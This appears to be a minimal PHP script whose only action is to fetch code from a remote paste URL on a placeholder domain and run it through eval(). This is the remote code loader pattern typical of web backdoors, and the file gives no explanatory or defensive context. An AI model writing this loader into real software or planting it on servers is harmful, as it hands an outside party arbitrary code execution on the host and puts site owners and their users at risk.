<?php
$code = file_get_contents('https://paste.example.invalid/raw/x');
eval('?>' . $code);
